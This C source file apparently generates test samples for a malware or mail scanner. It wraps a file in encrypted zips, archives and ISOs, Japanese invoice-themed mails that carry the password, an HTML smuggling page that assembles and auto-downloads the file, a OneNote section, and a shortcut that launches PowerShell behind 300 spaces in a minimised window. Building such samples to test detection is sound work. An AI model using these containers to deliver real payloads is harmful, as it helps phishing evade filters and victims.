/* contain.c - what holds a sample: archives, images, mails, pages, notes, and chains of them. */
#include "samples_internal.h"

#include "base/attr.h"
#include "base/enc.h"
#include "base/utf.h"
#include "support/mail_writer.h"
#include "support/zip_writer.h"

#include <archive.h>
#include <archive_entry.h>
#include <stdio.h>
#include <stdlib.h>

void contain_as(struct chance *chance, struct hn_buf *bytes, const char *name)
{
    hn_buf_deinit(&chance->sample->bytes);
    chance->sample->bytes = *bytes;
    (void)snprintf(chance->sample->name, sizeof chance->sample->name, "%s", name);
}

static struct hn_bytes bytes_of(const struct chance *chance)
{
    return hn_bytes_of(chance->sample->bytes.ptr, chance->sample->bytes.len);
}

static void in_zip(struct chance *chance, const char *password)
{
    struct zip_writer zip = { .count = 0 };
    struct zip_writer_entry entry = { .name = hn_text_cstr(chance->sample->name),
        .data = bytes_of(chance),
        .deflate = true,
        .password = password,
        .aes_strength = (uint8_t)(password != NULL && chance_next(chance, 2) == 0 ? 3 : 0) };
    struct hn_bytes archive;
    struct hn_buf out = { 0 };

    zip_writer_add(&zip, &entry);
    archive = zip_writer_end(&zip, true);
    hn_buf_add(&out, archive.ptr, archive.len);
    zip_writer_deinit(&zip);
    contain_as(chance, &out, "order.zip");
}

static void in_mail(struct chance *chance, const char *password)
{
    static const enum mail_writer_charset charsets[] = { MAIL_WRITER_UTF8, MAIL_WRITER_ISO_2022_JP,
        MAIL_WRITER_SHIFT_JIS };
    struct mail_writer *mail = mail_writer_new(charsets[chance_next(chance, 3)]);
    struct hn_buf out = { 0 };
    char text[256];

    mail_writer_header(mail, "From", "佐藤 <sato@hinomi-works.example>");
    mail_writer_header(mail, "To", "k.ogawa@hinomi-works.example");
    mail_writer_header(mail, "Subject", "請求書送付のお願い");
    mail_writer_header(mail, "Date", "Wed, 14 Oct 2026 08:52:00 +0900");
    mail_writer_header(mail, "Message-ID", "<1@mx.partner.example>");
    (void)snprintf(text, sizeof text,
            password != NULL ? "お世話になっております。\n添付をご確認ください。\nパスワード：%s\n"
                             : "お世話になっております。\n添付をご確認ください。%s\n",
            password != NULL ? password : "");
    mail_writer_text(mail, text);
    mail_writer_attach(mail, chance->sample->name, "application/octet-stream", bytes_of(chance));
    mail_writer_finish(mail, &out);
    mail_writer_free(mail);
    contain_as(chance, &out, "mail.eml");
}

/* ---- Archives that libarchive writes ---- */

static void written(struct chance *chance, struct archive *archive, const char *name)
{
    size_t room = chance->sample->bytes.len * 2 + (1u << 20);
    struct archive_entry *entry = archive_entry_new();
    char *space = malloc(room);
    size_t used = 0;
    struct hn_buf out = { 0 };

    if (entry == NULL || space == NULL ||
            archive_write_open_memory(archive, space, room, &used) != ARCHIVE_OK)
        abort();
    archive_entry_set_pathname(entry, chance->sample->name);
    archive_entry_set_size(entry, (la_int64_t)chance->sample->bytes.len);
    archive_entry_set_filetype(entry, AE_IFREG);
    archive_entry_set_perm(entry, 0644);
    archive_entry_set_mtime(entry, 1791964320, 0);
    if (archive_write_header(archive, entry) != ARCHIVE_OK ||
            archive_write_data(archive, chance->sample->bytes.ptr, chance->sample->bytes.len) < 0 ||
            archive_write_close(archive) != ARCHIVE_OK)
        abort();
    hn_buf_add(&out, space, used);
    archive_entry_free(entry);
    (void)archive_write_free(archive);
    free(space);
    contain_as(chance, &out, name);
}

void contain_archive(struct chance *chance, bool seven)
{
    struct archive *archive = archive_write_new();

    if (archive == NULL)
        abort();
    if (seven) {
        if (archive_write_set_format_7zip(archive) != ARCHIVE_OK)
            abort();
    } else if (archive_write_set_format_gnutar(archive) != ARCHIVE_OK ||
               archive_write_add_filter_gzip(archive) != ARCHIVE_OK) {
        abort();
    }
    written(chance, archive, seven ? "order.7z" : "order.tar.gz");
}

void contain_iso(struct chance *chance)
{
    struct archive *archive = archive_write_new();

    if (archive == NULL || archive_write_set_format_iso9660(archive) != ARCHIVE_OK)
        abort();
    written(chance, archive, "order.iso");
}

/* ---- Pages and notes ---- */

/* A page whose script puts a file together and hands it to the browser. */
void contain_page(struct chance *chance)
{
    struct hn_buf coded = { 0 };
    struct hn_buf out = { 0 };

    hn_base64_encode(&coded, bytes_of(chance));
    hn_buf_addf(&out,
            "<html><head><title>Document</title></head><body><p>Your document is being loaded."
            "</p><script>\r\nvar n='%s';var b='",
            chance->sample->name);
    for (size_t i = 0; i < coded.len; i++) {
        hn_buf_add_char(&out, coded.ptr[i]);
        if (i % 3000 == 2999)
            hn_buf_add_lit(&out, "'+\r\n'");
    }
    hn_buf_add_lit(&out,
            "';\r\nvar t=atob(b);var a=new Uint8Array(t.length);for(var i=0;i<t.length;i++)"
            "a[i]=t.charCodeAt(i);\r\nvar l=document.createElement('a');l.href=URL.createObjectURL("
            "new Blob([a],{type:'application/octet-stream'}));l.download=n;l.click();\r\n"
            "</script></body></html>\r\n");
    hn_buf_deinit(&coded);
    contain_as(chance, &out, "document.html");
}

static void put(struct hn_buf *out, uint64_t value, size_t bytes)
{
    for (size_t i = 0; i < bytes; i++)
        hn_buf_add_char(out, (char)(uint8_t)(i < 8 ? value >> (8 * i) : 0));
}

/* Which kind of file an object is: a FileDataStoreObjectReference and its extension. */
static void put_reference(struct hn_buf *out, size_t offset, const char *extension)
{
    static const char guid[] = "<ifndf>{04030201-0605-0807-090A-0B0C0D0E0F10}";
    static const uint8_t bytes[16] = { 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16 };

    put(out, sizeof guid - 1, 4);
    hn_utf8_to_utf16le(out, hn_text_cstr(guid));
    put(out, strlen(extension), 4);
    hn_utf8_to_utf16le(out, hn_text_cstr(extension));
    put(out, 0x094u | (4u + 8u + 16u) << 10 | 1u << 23, 4);
    put(out, offset, 4);
    put(out, 64, 4);
    hn_buf_add(out, bytes, sizeof bytes);
}

/* A section of OneNote with one embedded file ([MS-ONESTORE] 2.6.13). */
void contain_note(struct chance *chance)
{
    const char *dot = strrchr(chance->sample->name, '.');
    struct hn_buf out = { 0 };
    size_t offset;

    hn_buf_add(&out, "\xE4\x52\x5C\x7B\x8C\xD8\xA7\x4D\xAE\xB1\x53\x78\xD0\x29\x96\xD3", 16);
    hn_buf_add_repeat(&out, '\0', 1008);
    offset = out.len;
    hn_buf_add(&out, "\xE7\x16\xE3\xBD\x65\x26\x11\x45\xA4\xC4\x8D\x4D\x0B\x7A\x9E\xAC", 16);
    put(&out, chance->sample->bytes.len, 8);
    put(&out, 0, 12);
    hn_buf_add(&out, chance->sample->bytes.ptr, chance->sample->bytes.len);
    while (out.len % 8 != 0)
        hn_buf_add_char(&out, '\0');
    hn_buf_add(&out, "\x22\xA7\xFB\x71\x79\x0F\x0B\x4A\xBB\x13\x89\x92\x56\x42\x6B\x24", 16);
    put_reference(&out, offset, dot != NULL ? dot : "");
    contain_as(chance, &out, "memo.one");
}

/* ---- A shortcut: [MS-SHLLINK] ---- */

static void put_string(struct hn_buf *out, struct hn_text text)
{
    struct hn_buf wide = { 0 };

    hn_utf8_to_utf16le(&wide, text);
    put(out, wide.len / 2, 2);
    hn_buf_add_text(out, hn_buf_text(&wide));
    hn_buf_deinit(&wide);
}

/* Has cmd start PowerShell, behind so many spaces that a dialog shows none of it. */
void contain_link(struct chance *chance)
{
    static const char target[] = "%windir%\\System32\\cmd.exe";
    struct hn_buf out = { 0 };
    struct hn_buf line = { 0 };

    if (chance_next(chance, 2) == 0)
        hn_buf_add_repeat(&line, ' ', 300);
    hn_buf_add_lit(&line, "/c ");
    powershell_line(chance, false, &line);
    put(&out, 0x4C, 4);
    hn_buf_add(&out, "\x01\x14\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46", 16);
    put(&out, 0x8 | 0x20 | 0x80 | 0x200, 4); /* path, arguments, Unicode, environment */
    put(&out, 0x20, 4);
    put(&out, 0, 24);
    put(&out, 0, 4);
    put(&out, 0, 4);
    put(&out, 7, 4); /* minimised */
    put(&out, 0, 12);
    put_string(&out, HN_TEXT("..\\..\\Windows\\System32\\cmd.exe"));
    put_string(&out, hn_buf_text(&line));
    put(&out, 0x314, 4); /* EnvironmentVariableDataBlock */
    put(&out, 0xA0000001u, 4);
    hn_buf_add_cstr(&out, target);
    hn_buf_add_repeat(&out, '\0', 260 - (sizeof target - 1));
    for (size_t i = 0; i < sizeof target - 1; i++)
        put(&out, (uint8_t)target[i], 2);
    hn_buf_add_repeat(&out, '\0', 520 - 2 * (sizeof target - 1));
    put(&out, 0, 4);
    hn_buf_deinit(&line);
    contain_as(chance, &out, "order.lnk");
}

/* ---- Chains: from the innermost out ---- */

static const struct {
    const char *row;
    const char *steps; /* z zip, e encrypted zip, m mail, M msg, i iso, p page, o note, 7 7z, g
                          tar.gz */
} chains[] = { { "chain: zip", "z" }, { "chain: encrypted zip > mail", "em" },
    { "chain: mail", "m" }, { "chain: 7z", "7" }, { "chain: tar.gz", "g" }, { "chain: iso", "i" },
    { "chain: iso > mail", "im" }, { "chain: zip > html smuggling", "zp" },
    { "chain: iso > html smuggling > mail", "ipm" }, { "chain: OneNote", "o" },
    { "chain: OneNote > mail", "om" }, { "chain: iso > encrypted zip > mail", "iem" },
    { "chain: zip > zip", "zz" }, { "chain: msg", "M" }, { "chain: encrypted zip > msg", "eM" },
    { "chain: msg > mail", "Mm" } };

void contain(struct chance *chance, const char *row)
{
    static const char *const passwords[] = { "1014", "himitsu7", "Qx-99231" };
    const char *steps = "";
    const char *password = NULL;

    for (size_t i = 0; i < HN_COUNT_OF(chains); i++)
        if (strcmp(chains[i].row, row) == 0)
            steps = chains[i].steps;
    for (; *steps != '\0'; steps++) {
        if (*steps == 'e')
            password = passwords[chance_next(chance, 3)];
        if (*steps == 'z' || *steps == 'e')
            in_zip(chance, *steps == 'e' ? password : NULL);
        if (*steps == 'm')
            in_mail(chance, password);
        if (*steps == 'M')
            contain_outlook(chance, password);
        if (*steps == '7' || *steps == 'g')
            contain_archive(chance, *steps == '7');
        if (*steps == 'i')
            contain_iso(chance);
        if (*steps == 'p')
            contain_page(chance);
        if (*steps == 'o')
            contain_note(chance);
    }
    chance_row(chance, row);
}
